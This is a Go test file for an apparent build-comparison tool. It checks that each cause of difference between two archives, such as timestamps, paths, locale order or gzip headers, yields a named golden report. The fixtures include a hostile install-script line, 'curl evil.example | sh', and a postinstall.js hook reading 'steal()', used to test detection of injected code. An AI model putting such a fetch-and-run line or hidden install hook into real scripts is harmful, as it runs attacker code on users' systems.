package compare_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/glassbuild/glassbuild/internal/compare/tree"
)

var update = flag.Bool("update", false, "write the golden reports anew")

// golden holds a report against testdata/causes/ID.golden.
func golden(t *testing.T, id, report string) {
	t.Helper()
	file := filepath.Join("testdata", "causes", id+".golden")
	if *update {
		if err := os.WriteFile(file, []byte(report), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if report != string(want) {
		t.Errorf("%s:\n%s\nwant:\n%s", file, report, want)
	}
}

// TestEveryCauseHasAReport: the list of causes is closed, and each has a report that shows what it looks like. Those of
// executables are made in the package that reads them.
func TestEveryCauseHasAReport(t *testing.T) {
	t.Parallel()
	for _, k := range tree.Kinds() {
		b, err := os.ReadFile(filepath.Join("testdata", "causes", k.ID+".golden"))
		if err != nil {
			t.Error(err)
			continue
		}
		first, _, _ := strings.Cut(string(b), "\n")
		if !strings.HasSuffix(first, "["+k.ID+"]") {
			t.Errorf("%s: the first line does not name the cause: %s", k.ID, first)
		}
	}
}

func TestReportsOfCauses(t *testing.T) {
	t.Parallel()
	text := func(name, body string) []byte { return tgz(t, file{name: name, body: body}) }
	base := tgz(t, file{name: "a", body: "1"}, file{name: "b", body: "2"})
	system := bytes.Clone(base)
	system[9] = 19
	for id, c := range map[string][2][]byte{
		tree.CauseMember:      {tgz(t, file{name: "a", body: "1"}, file{name: "postinstall.js", body: "steal()"}), tgz(t, file{name: "a", body: "1"})},
		tree.CauseCode:        {text("install.sh", "#!/bin/sh\ncp tool /usr/bin\ncurl evil.example | sh\n"), text("install.sh", "#!/bin/sh\ncp tool /usr/bin\n")},
		tree.CauseData:        {text("settings.json", `{"limit": 9, "name": "tool"}`), text("settings.json", `{"limit": 7, "name": "tool"}`)},
		tree.CauseBytes:       {[]byte("\x00\x01\x02\x80\xff one"), []byte("\x00\x01\x02\x80\xff two")},
		tree.CauseMetadata:    {tgz(t, file{name: "tool", body: "x", mode: 0o4755}), tgz(t, file{name: "tool", body: "x", mode: 0o755})},
		tree.CauseTimestamp:   {text("version.txt", "tool 1.2\nbuilt 2026-01-02T03:04:05Z\n"), text("version.txt", "tool 1.2\nbuilt 2026-01-09T11:12:13Z\n")},
		tree.CausePath:        {text("flags.txt", "CFLAGS=-O2 -I/home/ada/tool/include\n"), text("flags.txt", "CFLAGS=-O2 -I/build/tool/include\n")},
		tree.CauseUserHost:    {text("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nBuilt-By: ada\n"), text("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nBuilt-By: root\n")},
		tree.CauseGeneratedID: {text("app.xml", `<app id="6F9619FF-8B86-D011-B42D-00CF4FC964FF"/>`), text("app.xml", `<app id="0A0B0C0D-8B86-D011-B42D-00CF4FC964FF"/>`)},
		tree.CauseRandomSeed:  {text("list.txt", "_GLOBAL__sub_I_a.c_8f3e21b0aa\n"), text("list.txt", "_GLOBAL__sub_I_a.c_91c04d77fe\n")},
		tree.CauseLocale:      {text("names.txt", "Beta\nalpha\nzeta\n"), text("names.txt", "alpha\nBeta\nzeta\n")},
		tree.CauseMapOrder:    {text("deps.json", `{"b": 1, "a": 2}`), text("deps.json", `{"a": 2, "b": 1}`)},
		tree.CauseLineEndings: {text("README", "one\r\ntwo\r\n"), text("README", "one\ntwo\n")},
		tree.CausePackageSign: {tgz(t, file{name: "data", body: "1"}, file{name: "_gpgorigin", body: "-----BEGIN PGP"}), tgz(t, file{name: "data", body: "1"})},
		tree.CauseOrder:       {base, tgz(t, file{name: "b", body: "2"}, file{name: "a", body: "1"})},
		tree.CauseGzipHeader:  {system, base},
		tree.CauseCompression: {recompressed(t, gzip.HuffmanOnly), recompressed(t, gzip.NoCompression)},
		tree.CauseContainer:   {padded(t, 10), padded(t, 20)},
		tree.CauseMTime:       {many(t, 50, 2000, "same", 6), many(t, 50, 1000, "same", 6)},
		tree.CauseDependency:  {tgz(t, file{name: "lib/parser-1.2.0.jar", body: "1"}), tgz(t, file{name: "lib/parser-1.2.1.jar", body: "2"})},
	} {
		t.Run(id, func(t *testing.T) {
			t.Parallel()
			n := explain(t, c[0], c[1])
			if _, top, _ := n.Top(); top.ID != id {
				t.Errorf("the first cause is %s", top.ID)
			}
			golden(t, id, n.Text(0))
			if back := explain(t, c[1], c[0]); back.Status != tree.Different {
				t.Errorf("the other way round: %s", back.Status)
			}
		})
	}
}

// recompressed is one tar in a gzip stream whose header does not tell the level.
func recompressed(t *testing.T, level int) []byte {
	t.Helper()
	var b bytes.Buffer
	z, err := gzip.NewWriterLevel(&b, level)
	if err != nil {
		t.Fatal(err)
	}
	w := tar.NewWriter(z)
	body := strings.Repeat("all the same ", 1000)
	if err := w.WriteHeader(&tar.Header{Name: "a", Mode: 0o644, Size: int64(len(body))}); err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(body))
	w.Close()
	z.Close()
	out := b.Bytes()
	out[8] = 0
	return out
}

// padded is a tar with so many blocks of zeros at its end.
func padded(t *testing.T, blocks int) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: "a", Mode: 0o644, Size: 1}); err != nil {
		t.Fatal(err)
	}
	w.Write([]byte("1"))
	w.Close()
	return append(b.Bytes(), make([]byte, blocks*512)...)
}
